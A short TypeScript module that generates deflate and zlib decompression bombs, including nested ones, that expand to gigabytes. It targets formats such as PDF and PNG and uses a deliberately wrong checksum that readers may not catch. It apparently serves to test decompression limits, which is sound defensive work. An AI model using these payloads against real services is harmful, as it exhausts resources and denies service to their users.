/** Deflated data that unfolds to gigabytes, made in milliseconds: one flushed block, repeated. */
import { constants, deflateRawSync, deflateSync } from 'node:zlib';

const MB = 1024 * 1024;

/** Raw deflate data of `megabytes` of one byte; a thousandth of that size. */
export function rawBomb(megabytes: number, byte = 0x20): Buffer {
  const block = deflateRawSync(Buffer.alloc(MB, byte), { finishFlush: constants.Z_FULL_FLUSH });
  return Buffer.concat([...Array.from({ length: megabytes }, () => block), Buffer.from([3, 0])]);
}

/** The same with zlib's header, as PDF and PNG want it. Its checksum is wrong: readers notice at the end, if at all. */
export function zlibBomb(megabytes: number, byte?: number): Buffer {
  return Buffer.concat([Buffer.from([0x78, 0x9c]), rawBomb(megabytes, byte), Buffer.alloc(4)]);
}

/** A bomb packed `times` more: kilobytes that unfold to gigabytes. */
export function nestedBomb(megabytes: number, times: number): Buffer {
  let packed = zlibBomb(megabytes);
  for (let time = 0; time < times; time++) packed = deflateSync(packed);
  return packed;
}
